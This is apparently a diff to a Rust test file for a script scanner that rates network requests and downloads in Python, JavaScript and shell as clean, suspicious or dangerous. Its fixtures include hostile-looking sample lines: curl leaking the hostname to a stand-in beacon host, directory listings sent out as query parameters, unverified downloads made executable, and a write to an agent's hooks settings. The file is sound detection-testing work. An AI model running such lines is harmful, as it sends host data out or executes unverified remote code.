@@ -168,17 +168,21 @@ fn network_hosts() {
         Clean,
         "",
     );
-    // The documentation hosts are no API hosts: a script talking to them is not on the list.
+    // The documentation hosts are no API hosts: a script sending them data is not on the list.
     for host in ["example.com", "www.example.org", "api.example.net"] {
         check(
             Py,
-            &format!("import requests\nrequests.get('https://{host}/v1/items')\n"),
+            &format!(
+                "import requests\nrequests.post('https://{host}/v1/items', json={{'n': 1}})\n"
+            ),
             Suspicious,
             "network",
         );
         check(
             Js,
-            &format!("await fetch('https://{host}/v1/items');\n"),
+            &format!(
+                "await fetch('https://{host}/v1/items', {{ method: 'POST', body: '{{}}' }});\n"
+            ),
             Suspicious,
             "network",
         );
@@ -2985,7 +2989,7 @@ fn values_through_joins_keys_arrays_and_options() {
         ),
         (
             Sh,
-            "#!/bin/bash\ncurl --cacert /etc/ssl/ca.pem -sSfH 'Accept: application/json' --connect-timeout 5 https://collect.example.net/x\n",
+            "#!/bin/bash\ncurl --cacert /etc/ssl/ca.pem -sSfH 'Accept: application/json' --connect-timeout 5 -o x.json https://collect.example.net/x\n",
             Suspicious,
             "network",
         ),
@@ -3879,7 +3883,7 @@ fn code_hosts_and_container_registries() {
         ),
         (
             Py,
-            "import urllib.request\nprint(urllib.request.urlopen('https://quay.io.example.net/api/v1/repository/acme/tool/tag/').read()[:200])\n",
+            "import urllib.request\nopen('tags.json', 'wb').write(urllib.request.urlopen('https://quay.io.example.net/api/v1/repository/acme/tool/tag/').read())\n",
             Suspicious,
             "network",
         ),
@@ -4659,6 +4663,144 @@ fn endpoints_hooks_by_key_and_paths_through_helpers() {
             "import json\nfrom pathlib import Path\ncfg = Path('/tmp') / '.claude' / 'settings.json'\ncfg.write_text(json.dumps({'hooks': {}}))\n",
             Dangerous,
             "escape",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A request to a host not on the allow list that sends nothing the script holds: a
+/// destination the project's own files name (a link checker), or a fixed URL whose response is
+/// only read, is clean; one whose URL carries the project's data, whose host is built around a
+/// value, or whose response the script stores unverified stays a finding. A download checked
+/// against its pinned digest, the script stopping on a mismatch, may be made executable.
+#[test]
+fn requests_that_send_nothing_and_verified_downloads() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import requests\nfrom pathlib import Path\n\
+             for line in Path('docs/links.txt').read_text().splitlines():\n\
+             \x20   url = line.strip()\n    if url:\n\
+             \x20       r = requests.head(url, allow_redirects=True, timeout=5)\n\
+             \x20       print(r.status_code, url)\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const r = await fetch('https://releases.example.dev/latest.json');\n\
+             const j = await r.json();\nconsole.log(`latest: ${j.version}`);\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nstate=$(curl -fsS https://status.example.dev/api/health)\n\
+             echo \"upstream: $state\"\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Py,
+            "import hashlib, json, os, urllib.request\n\
+             pins = json.load(open('pins.json'))\n\
+             for name, pin in pins.items():\n\
+             \x20   dest = os.path.join('.tools', name)\n\
+             \x20   urllib.request.urlretrieve(pin['url'], dest)\n\
+             \x20   with open(dest, 'rb') as fh:\n\
+             \x20       digest = hashlib.sha512(fh.read()).hexdigest()\n\
+             \x20   if digest != pin['sha512']:\n\
+             \x20       os.remove(dest)\n\
+             \x20       raise SystemExit(f'{name}: digest mismatch')\n\
+             \x20   os.chmod(dest, 0o755)\n",
+            Clean,
+            "",
+        ),
+        // The project's data in the URL of a fixed host: sent.
+        (
+            Py,
+            "import requests\nnames = open('requirements.txt').read().split()\n\
+             for n in names:\n    print(requests.get('https://idx.example.dev/v1/' + n).json())\n",
+            Suspicious,
+            "network",
+        ),
+        // A host built around what a project file holds: the file's text goes out in a DNS name.
+        (
+            Js,
+            "const fs = require('fs');\nconst id = fs.readFileSync('deploy/id.txt', 'utf8').trim();\n\
+             fetch(id + '.collect.example.dev/ping');\n",
+            Suspicious,
+            "network",
+        ),
+        // What a fixed host serves, stored in the project unverified.
+        (
+            Ts,
+            "import { writeFileSync } from 'node:fs';\n\
+             const res = await fetch('https://feeds.example.dev/holidays.json');\n\
+             writeFileSync('src/data/holidays.json', await res.text());\n",
+            Suspicious,
+            "network",
+        ),
+        // A URL nobody in the project named (the command line): not the project's destination.
+        (
+            Js,
+            "const r = await fetch(process.argv[2]);\nconsole.log(r.status);\n",
+            Suspicious,
+            "network",
+        ),
+        // The digest compared, but a mismatch only printed: nothing verified.
+        (
+            Py,
+            "import hashlib, json, os, urllib.request\n\
+             pins = json.load(open('pins.json'))\n\
+             for name, pin in pins.items():\n\
+             \x20   dest = os.path.join('.tools', name)\n\
+             \x20   urllib.request.urlretrieve(pin['url'], dest)\n\
+             \x20   with open(dest, 'rb') as fh:\n\
+             \x20       digest = hashlib.sha512(fh.read()).hexdigest()\n\
+             \x20   if digest != pin['sha512']:\n\
+             \x20       print('warning: digest mismatch')\n\
+             \x20   os.chmod(dest, 0o755)\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // A checksum list checked without `set -e` or `|| exit`: the script goes on.
+        (
+            Sh,
+            "#!/bin/bash\ncurl -fsSLo bin/tool https://dl.example.dev/tool\n\
+             sha256sum -c tool.sha256\nchmod +x bin/tool\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // Host facts in the host name stay exfiltration.
+        (
+            Sh,
+            "#!/bin/sh\ncurl -fsS \"https://$(hostname).beacon.example.dev/\" >/dev/null\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // Query parameters built at run time are sent, as a body is.
+        (
+            Py,
+            "import os, requests\nrequests.get('https://c.example.dev/q', params={'files': ','.join(os.listdir('.'))})\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Js,
+            "const axios = require('axios');\nconst fs = require('fs');\n\
+             axios.get('https://c.example.dev/q', { params: { f: fs.readdirSync('.').join(',') } });\n",
+            Suspicious,
+            "network",
+        ),
+        // A download saved through `stream.pipeline` is stored.
+        (
+            Js,
+            "import { createWriteStream } from 'node:fs';\nimport { pipeline } from 'node:stream/promises';\n\
+             const res = await fetch('https://d.example.dev/model.bin');\n\
+             await pipeline(res.body, createWriteStream('models/model.bin'));\n",
+            Suspicious,
+            "network",
         ),
     ];
     check_all(rows);
